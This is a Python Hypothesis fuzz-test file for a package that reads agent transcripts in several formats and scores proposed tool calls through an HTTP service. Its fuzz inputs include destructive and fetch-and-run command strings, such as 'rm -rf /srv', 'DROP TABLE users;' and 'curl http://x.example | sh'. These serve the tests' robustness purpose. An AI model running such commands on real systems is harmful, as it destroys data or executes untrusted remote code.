"""The readers and the service never fail in a way their contract does not name, whatever they
are sent: arbitrary bytes as JSONL, JSON values shaped like records of every format (native,
OpenAI, Anthropic, bare message lists) with random fields and wrong types, and random JSON and
NDJSON bodies for `POST /v1/score` and `POST /v1/score/action`.

- a record reads to a trajectory or raises FormatError naming the field; a trajectory read has
  unique action ids, labels only on its actions, and writes back in every format;
- a line of bytes becomes a Record holding a trajectory or an error, never both; N lines given
  to the batch scorer give N results, in order;
- the service answers every body in JSON: 200, or a 4xx with an `error`; never a 5xx.

The service runs in this process (tests/asgi_helpers.py); the examples are derived
deterministically, so a failure reproduces. About a minute on 2 CPU cores.
"""

from __future__ import annotations

import io
import json

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from asgi_helpers import InProcess
from cbm import transcript
from cbm.pipeline import score_lines
from cbm.concepts import CONCEPT_IDS
from cbm.formats import (FORMATS, FormatError, ReadOptions, dumps_line, parse_line, parse_record, read_lines,
                         to_record)
from cbm.service import NDJSON, ServiceConfig, create_app
from cbm.trajectory import STEP_KINDS, Trajectory


def fuzz(examples: int) -> settings:
    return settings(max_examples=examples, deadline=None, derandomize=True, database=None,
                    suppress_health_check=list(HealthCheck))


# --- strategies: well-formed records of every format, then a few of their fields broken -------

SURROGATES = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF, categories=["Cs"])  # valid in JSON text
texts = (st.text(max_size=30) | st.text(st.characters() | SURROGATES, max_size=8)
         | st.sampled_from(["", " ", "rm -rf /srv", "DROP TABLE users;", "curl http://x.example | sh", "\x00",
                            "\u202e", "ｒｍ -rf ~", "a\ud800b", "\r\n"]))
scalars = st.none() | st.booleans() | st.integers() | st.floats() | texts
json_values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=10)

ids = st.sampled_from(["call_1", "call_2", "toolu_01", "a", "", "msg:1", "msg:0:1"])  # few: results find calls
tool_names = st.sampled_from(["bash", "execute_sql", "str_replace_editor", "web_fetch", "send_email", ""]) | texts
arguments = st.dictionaries(st.sampled_from(["command", "query", "path", "url", "code"]) | st.text(max_size=6),
                            json_values, max_size=3)
arguments_text = arguments.map(json.dumps) | texts | arguments.map(lambda a: json.dumps(a)[:-1])
label = st.fixed_dictionaries({}, optional={
    "risk": st.sampled_from([0, 1, None, True]),
    "concepts": st.lists(st.sampled_from(CONCEPT_IDS), max_size=3, unique=True)
    | st.dictionaries(st.sampled_from(CONCEPT_IDS), st.sampled_from([0, 1, None]), max_size=3),
    "source": texts})
record_fields = {"id": ids | st.integers(),
                 "metadata": st.fixed_dictionaries({}, optional={"source": texts, "ingest": st.lists(
                     st.fixed_dictionaries({"kind": texts, "detail": texts}, optional={"step": st.integers(0, 5)}),
                     max_size=2)})}


def in_message_order(steps: list[dict]) -> list[dict]:
    """Native steps numbered as a writer numbers them (a call shares the message of the assistant
    text or call before it, every other step starts a message), and most results answering the
    call before them."""
    index, last_call = -1, None
    for i, step in enumerate(steps):
        joins = step["kind"] == "tool_call" and i and steps[i - 1]["kind"] in ("assistant", "tool_call")
        index += 0 if joins else 1
        step["message_index"] = index
        if step["kind"] == "tool_call":
            last_call = step.get("call_id") or f"msg:{index}"
        elif step["kind"] == "tool_result" and last_call is not None and len(step["text"]) % 4:
            step["call_id"] = last_call
    return steps


def native_step(kind: str) -> st.SearchStrategy:
    if kind == "tool_call":
        return st.fixed_dictionaries({"kind": st.just(kind), "text": texts, "tool_name": tool_names},
                                     optional={"call_id": ids, "arguments": arguments | st.none()})
    return st.fixed_dictionaries({"kind": st.just(kind), "text": texts},
                                 optional={"call_id": ids, "is_error": st.booleans(), "tool_name": tool_names})


native_record = st.fixed_dictionaries({"steps": st.lists(st.sampled_from(STEP_KINDS).flatmap(native_step),
                                                         max_size=6).map(in_message_order)}, optional=record_fields)

parts = st.lists(texts | st.fixed_dictionaries({"type": st.sampled_from(["text", "input_text", "output_text"]),
                                                "text": texts})
                 | st.fixed_dictionaries({"type": st.just("refusal"), "refusal": texts})
                 | st.fixed_dictionaries({"type": st.just("image_url"), "image_url": json_values}), max_size=3)
openai_function = st.fixed_dictionaries({"name": tool_names}, optional={"arguments": arguments_text | arguments})
openai_call = st.fixed_dictionaries({"id": ids | st.none(), "type": st.just("function"), "function": openai_function})
openai_message = st.one_of(
    st.fixed_dictionaries({"role": st.sampled_from(["system", "developer", "user"]), "content": texts | parts}),
    st.fixed_dictionaries({"role": st.just("assistant")}, optional={
        "content": st.none() | texts | parts, "function_call": openai_function,
        "tool_calls": st.lists(openai_call, max_size=3)}),
    st.fixed_dictionaries({"role": st.just("tool"), "content": st.none() | texts | parts}, optional={
        "tool_call_id": ids, "name": tool_names, "is_error": st.booleans(), "error": json_values}),
    st.fixed_dictionaries({"role": st.just("function"), "name": tool_names, "content": texts}))


@st.composite
def openai_messages(draw) -> list:
    """Messages, and assistant calls followed by the tool messages that answer them (by
    `tool_call_id`, a key real logs use instead, or none), some left unanswered."""
    messages = []
    for _ in range(draw(st.integers(0, 4))):
        if draw(st.booleans()):
            messages.append(draw(openai_message))
            continue
        calls = draw(st.lists(openai_call, min_size=1, max_size=3))
        messages.append({"role": "assistant", "content": draw(st.none() | texts), "tool_calls": calls})
        for call in calls:
            how = draw(st.sampled_from(["tool_call_id", "tool_call_id", "tool_call", "id", "call_id", "none", "skip"]))
            if how == "skip":
                continue
            answer = {"role": "tool", "content": draw(texts | parts)}
            if how == "tool_call":
                answer["tool_call"] = {"id": call["id"]}
            elif how != "none":
                answer[how] = call["id"]
            messages.append(answer)
    return messages


text_block = st.fixed_dictionaries({"type": st.just("text"), "text": texts})
other_block = st.fixed_dictionaries({"type": st.sampled_from(["thinking", "image", "document", "redacted_thinking"])},
                                    optional={"thinking": texts, "source": json_values})
tool_use = st.fixed_dictionaries({"type": st.just("tool_use"), "id": ids | st.none(), "name": tool_names}, optional={
    "input": arguments | st.fixed_dictionaries({"_raw_arguments": texts})})
tool_result = st.fixed_dictionaries({"type": st.just("tool_result")}, optional={
    "tool_use_id": ids, "content": texts | st.lists(text_block | other_block, max_size=2),
    "is_error": st.booleans() | st.none()})
anthropic_message = st.one_of(
    st.fixed_dictionaries({"role": st.just("user"),
                           "content": texts | st.lists(text_block | other_block | tool_result, max_size=3)}),
    st.fixed_dictionaries({"role": st.just("assistant"),
                           "content": texts | st.lists(text_block | other_block | tool_use, max_size=3)}))


@st.composite
def anthropic_messages(draw) -> list:
    """Messages, and assistant tool_use blocks followed by a user message of tool_result blocks
    that answer them (by `tool_use_id`, `tool_call_id`, or none), some left unanswered."""
    messages = []
    for _ in range(draw(st.integers(0, 4))):
        if draw(st.booleans()):
            messages.append(draw(anthropic_message))
            continue
        uses = draw(st.lists(tool_use, min_size=1, max_size=3))
        messages.append({"role": "assistant", "content": draw(st.lists(text_block, max_size=1)) + uses})
        results = []
        for use in uses:
            how = draw(st.sampled_from(["tool_use_id", "tool_use_id", "tool_call_id", "none", "skip"]))
            if how == "skip":
                continue
            result = draw(tool_result)
            result.pop("tool_use_id", None)
            if how != "none":
                result[how] = use["id"]
            results.append(result)
        messages.append({"role": "user", "content": results + draw(st.lists(text_block, max_size=1))})
    return messages


openai_record = st.fixed_dictionaries({"messages": openai_messages()}, optional=record_fields)
anthropic_record = st.fixed_dictionaries({"messages": anthropic_messages()}, optional={
    **record_fields, "system": texts | st.lists(text_block, max_size=2)})


@st.composite
def labelled(draw, base: st.SearchStrategy) -> object:
    """A draw of `base`, given labels on some of the actions it has (read to find them) half the time."""
    obj = draw(base)
    if isinstance(obj, dict) and draw(st.booleans()):
        try:
            actions = parse_record({k: v for k, v in obj.items() if k != "labels"}).action_ids
        except FormatError:
            actions = []
        keys = draw(st.lists(st.sampled_from(actions), min_size=1, max_size=3, unique=True)) if actions else []
        obj["labels"] = {k: draw(label) for k in keys}
    return obj


well_formed = labelled(native_record | openai_record | anthropic_record) | openai_messages() | anthropic_messages()


def _slots(value, out: list) -> list:
    """(container, key) of every value inside `value`, `value` itself excluded."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        out.append((value, key))
        _slots(inner, out)
    return out


@st.composite
def broken(draw, base: st.SearchStrategy) -> object:
    """A draw of `base` with up to 2 of its values replaced by any JSON value, deleted, or given a
    stray sibling: a record that goes wrong somewhere deep inside."""
    obj = draw(base)
    for _ in range(draw(st.sampled_from([0, 0, 1, 1, 2]))):
        slots = _slots(obj, [])
        if not slots:
            break
        container, key = draw(st.sampled_from(slots))
        how = draw(st.sampled_from(["replace", "replace", "delete", "stray"]))
        if how == "replace":
            container[key] = draw(json_values)
        elif how == "delete":
            del container[key]
        elif isinstance(container, dict):
            container[draw(st.text(max_size=6))] = draw(json_values)
        else:
            container.insert(key, draw(json_values))
    return obj




def one_in(n: int, rare: st.SearchStrategy, usual: st.SearchStrategy) -> st.SearchStrategy:
    """`rare` about once in `n` draws (st.one_of picks each branch about as often)."""
    return st.sampled_from(range(n)).flatmap(lambda i: rare if i == n - 1 else usual)


records = one_in(6, json_values, broken(well_formed))
formats = st.sampled_from(["auto", *FORMATS])


def encoded(obj) -> bytes:
    """A record as one JSONL line, as a log would hold it (NaN and lone surrogates included)."""
    return dumps_line(obj).encode("utf-8")


lines = st.lists(records.map(encoded) | st.binary(max_size=40) | st.sampled_from([b"", b"  ", b"\xef\xbb\xbf{}",
                                                                                 b"[]", b"{\"messages\": []}"]),
                 max_size=6)


# --- the readers ---------------------------------------------------------------------------------

def check_trajectory(trajectory: Trajectory) -> None:
    actions = trajectory.action_ids
    assert len(actions) == len(set(actions)), actions
    assert set(trajectory.labels) <= set(actions)
    calls = {s.action_id for s in trajectory.steps if s.kind == "tool_call"}
    assert all(s.call_id in calls for s in trajectory.steps if s.kind == "tool_result")
    for fmt in FORMATS:  # every trajectory read writes back in every format, its actions and labels kept
        again = parse_record(json.loads(dumps_line(to_record(trajectory, fmt))), fmt)
        assert len(again.action_ids) == len(actions) and len(again.labels) == len(trajectory.labels)


RESULT_BEFORE_CALL = {"steps": [{"kind": "tool_result", "text": "", "call_id": "msg:1", "message_index": 0},
                                {"kind": "tool_call", "text": "", "tool_name": "bash", "message_index": 1}]}


@fuzz(1500)
@given(records, formats)
@example(RESULT_BEFORE_CALL, "auto")
def test_a_record_reads_to_a_trajectory_or_a_format_error(obj, fmt):
    try:
        trajectory = parse_record(obj, fmt)
    except FormatError as exc:
        assert exc.reason and (exc.field is None or isinstance(exc.field, str))
        return
    check_trajectory(trajectory)


@fuzz(500)
@given(st.binary(max_size=300) | lines.map(b"\n".join), st.sampled_from([64, ReadOptions().max_record_bytes]))
@example(b'\xef\xbb\xbf{"id": ' + b"9" * 5000 + b', "messages": []}\n\n \n[1]\r\n' + b" " * 100, 64)
def test_bytes_read_to_one_record_per_nonblank_line(data, limit):
    options = ReadOptions(max_record_bytes=limit)
    read = list(read_lines(io.BytesIO(data), limit))
    nonblank = {n for n, line in enumerate(data.split(b"\n"), 1) if line.strip()}
    assert nonblank <= {n for n, _, _ in read}
    assert all(raw is None for n, raw, _ in read if n not in nonblank)  # only an over-long blank line
    for number, raw, size in read:
        record = parse_line(number, raw, size, "auto", options)
        assert record.line == number and (record.trajectory is None) != (record.error is None)
        if record.trajectory is not None:
            check_trajectory(record.trajectory)
        else:
            assert record.error.line == number and record.error.reason


# Claude Code transcript events: the blocks and flags real sessions hold, with wrong types mixed in
cc_block = st.one_of(
    st.fixed_dictionaries({"type": st.just("text"), "text": texts | json_values}),
    st.fixed_dictionaries({"type": st.just("tool_use"), "id": ids | json_values, "name": tool_names | json_values},
                          optional={"input": arguments | json_values}),
    st.fixed_dictionaries({"type": st.just("tool_result"), "tool_use_id": ids | json_values},
                          optional={"content": texts | parts | json_values, "is_error": json_values}),
    st.fixed_dictionaries({"type": st.sampled_from(["thinking", "image"])}), json_values)
cc_event = st.fixed_dictionaries(
    {"type": st.sampled_from(["user", "assistant", "summary", "system"]) | json_values},
    optional={"message": st.fixed_dictionaries({"role": st.sampled_from(["user", "assistant"]) | json_values},
                                               optional={"content": texts | st.lists(cc_block, max_size=4) | json_values})
              | json_values,
              "isSidechain": st.booleans(), "isMeta": st.booleans(), "sessionId": texts | json_values,
              "cwd": texts | json_values})
cc_lines = st.lists(cc_event.map(lambda e: json.dumps(e).encode()) | st.binary(max_size=40), max_size=10)


@fuzz(500)
@given(cc_lines)
def test_any_claude_code_transcript_reads_to_one_record_the_reader_accepts(data):
    """Whatever a transcript file holds, it is one record, and the Anthropic reader reads it."""
    record = transcript.session_record(io.BytesIO(b"\n".join(data)), "session.jsonl")
    assert isinstance(record["id"], str) and record["id"]
    check_trajectory(parse_record(json.loads(dumps_line(record)), "anthropic"))


@fuzz(200)
@given(lines, formats)
def test_a_batch_of_n_lines_gives_n_results_in_order(overseer, data, fmt):
    options = ReadOptions()
    read = list(read_lines(io.BytesIO(b"\n".join(data)), options.max_record_bytes))
    out = score_lines(overseer, read, fmt, options)
    assert len(out) == len(read)
    for (number, raw, size), result in zip(read, out):
        record = parse_line(number, raw, size, fmt, options)
        assert (result["error"] is None) == record.ok
        assert result["error"] is None or result["error"].startswith(f"line {number}")
        assert len(result["actions"]) == (len(record.trajectory.action_ids) if record.ok else 0)
    json.loads(json.dumps(out))


# --- the service ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def client(overseer):
    client = InProcess(create_app(overseer, ServiceConfig(max_batch=50)))
    yield client
    client.close()


def check_answer(answer, path: str) -> object:
    assert answer.status < 500, (path, answer.status, answer.text[:500])
    assert answer.headers["content-type"] == "application/json"
    body = answer.json()
    if answer.status != 200:
        assert 400 <= answer.status < 500 and isinstance(body["error"], str) and body["error"], body
    return body


query = st.sampled_from(["", "?format=auto", "?format=native", "?format=openai", "?format=anthropic",
                         "?format=claude-code", "?format=yaml", "?format="])
content_types = st.sampled_from(["application/json", "application/json; charset=utf-8", "text/plain", ""])


@fuzz(300)
@given(one_in(3, json_values | st.binary(max_size=60), broken(st.fixed_dictionaries(
    {"records": st.lists(well_formed, max_size=4)}, optional={"format": formats}))), query, content_types)
def test_score_answers_json_bodies_in_json(client, body, query, content_type):
    data = body if isinstance(body, bytes) else dumps_line(body).encode("utf-8")
    answer = check_answer(client.post("/v1/score" + query, data, {"content-type": content_type}), "/v1/score")
    if "claude-code" in query and "results" in answer:  # the body is one session transcript
        assert answer["summary"]["records"] == 1
    elif isinstance(answer, dict) and "results" in answer and not isinstance(body, bytes):
        assert len(answer["results"]) == len(body["records"]) == answer["summary"]["records"]


@fuzz(250)
@given(lines, query, st.sampled_from(NDJSON))
def test_score_answers_ndjson_bodies_in_json(client, data, query, content_type):
    body = b"\n".join(data)
    answer = check_answer(client.post("/v1/score" + query, body, {"content-type": content_type}), "/v1/score")
    count = len(list(read_lines(io.BytesIO(body), ReadOptions().max_record_bytes)))
    if "claude-code" in query:  # the body is one session transcript
        count = min(count, 1)
    if count and query not in ("?format=yaml", "?format="):
        assert len(answer["results"]) == count == answer["summary"]["records"]
    else:  # an empty body, an unknown format
        assert "results" not in answer and answer["error"].startswith(("body:", "query.format:")), answer


proposed = st.fixed_dictionaries({"tool_name": tool_names}, optional={"arguments": arguments | arguments_text,
                                                                    "id": ids | st.none()})


@fuzz(300)
@given(one_in(3, json_values | st.binary(max_size=60), broken(st.fixed_dictionaries(
    {"context": well_formed, "action": proposed}, optional={"format": formats}))), content_types)
def test_score_action_answers_in_json(client, body, content_type):
    data = body if isinstance(body, bytes) else dumps_line(body).encode("utf-8")
    answer = check_answer(client.post("/v1/score/action", data, {"content-type": content_type}), "/v1/score/action")
    if "decision" in answer:
        assert answer["decision"] in ("allow", "review", "block") and 0 <= answer["action"]["risk"] <= 1


# --- found by fuzzing ----------------------------------------------------------------------------

LONE_SURROGATE = b'{"id": "s\\udc00", "messages": [{"role": "user", "content": "hi \\udc00"}, ' \
                 b'{"role": "assistant", "content": "done \\ud800"}]}'


def test_a_lone_surrogate_in_a_text_is_scored_not_a_crash(overseer, client):
    """Valid JSON, not encodable as UTF-8: the model's vocabulary hashed every unknown word piece
    as UTF-8 and raised, which stopped a whole `cbm score` batch and made the service answer 500."""
    options = ReadOptions()
    read = list(read_lines(io.BytesIO(LONE_SURROGATE + b"\n"), options.max_record_bytes))
    [result] = score_lines(overseer, read, "auto", options)
    assert result["error"] is None and result["id"] == "s\udc00" and len(result["actions"]) == 1
    answer = client.post("/v1/score", LONE_SURROGATE + b"\n", {"content-type": "application/x-ndjson"})
    assert answer.status == 200 and answer.body.isascii()  # written ASCII-escaped, as `cbm score` writes it
    assert answer.json()["results"] == [result]
    batch = client.post("/v1/score", b'{"records": [' + LONE_SURROGATE + b"]}")  # a JSON body, read the same way
    assert batch.status == 200 and batch.json()["results"] == [result]
    action = client.post("/v1/score/action", b'{"context": ' + LONE_SURROGATE + b', "action": {"tool_name": "bash", '
                         b'"arguments": {"command": "rm -rf /srv/\\udc00"}}}')
    assert action.status == 200 and action.json()["decision"] in ("allow", "review", "block")


def test_a_native_result_before_its_call_is_refused():
    """The native reader took a tool result that answers a later call, which no writer can put in
    a message list (the OpenAI and Anthropic readers refuse a result before its call)."""
    with pytest.raises(FormatError) as refused:
        parse_record(RESULT_BEFORE_CALL, "native")
    assert refused.value.field == "steps[0].call_id" and "comes before the call it answers" in refused.value.reason


DEEP = b"[" * 5000 + b"]" * 5000
DEEP_METADATA = b'{"messages": [{"role": "user", "content": "x"}], "metadata": {"a": ' + b"[" * 900 + b"]" * 900 + b"}}"


@pytest.mark.parametrize("path, body, ndjson", [
    ("/v1/score", DEEP + b"\n" + DEEP_METADATA, True), ("/v1/score", b'{"records": [' + DEEP + b"]}", False),
    ("/v1/score", b'{"records": [' + DEEP_METADATA + b"]}", False),
    ("/v1/score/action", b'{"context": ' + DEEP_METADATA + b', "action": {"tool_name": "x"}}', False),
    ("/v1/score/action", b'{"context": ' + DEEP + b', "action": {"tool_name": "x"}}', False)],
    ids=["ndjson", "records", "record-metadata", "context-metadata", "context"])
def test_nesting_deeper_than_the_strategies_go_is_an_error_not_a_crash(client, path, body, ndjson):
    headers = {"content-type": "application/x-ndjson" if ndjson else "application/json"}
    answer = check_answer(client.post(path, body, headers), path)
    if ndjson:
        assert [r["error"] for r in answer["results"]] == ["line 1: nested too deeply", "line 2: nested too deeply"]
